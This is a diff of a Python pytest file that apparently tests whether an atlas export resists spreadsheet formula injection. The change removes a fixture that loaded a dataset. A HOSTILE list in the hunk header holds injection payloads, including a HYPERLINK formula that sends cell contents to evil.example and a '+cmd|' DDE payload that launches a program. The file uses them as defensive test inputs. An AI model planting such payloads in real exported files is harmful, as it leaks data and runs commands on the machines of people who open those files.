@@ -24,11 +24,6 @@ HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc
 
 
 @pytest.fixture(scope="module")
-def atlas():
-    return geo.load("wenzhou-2024")
-
-
-@pytest.fixture(scope="module")
 def written(atlas, tmp_path_factory):
     folder = tmp_path_factory.mktemp("export")
     return {fmt: atlas.export(folder / f"w.{fmt}") for fmt in FORMATS}
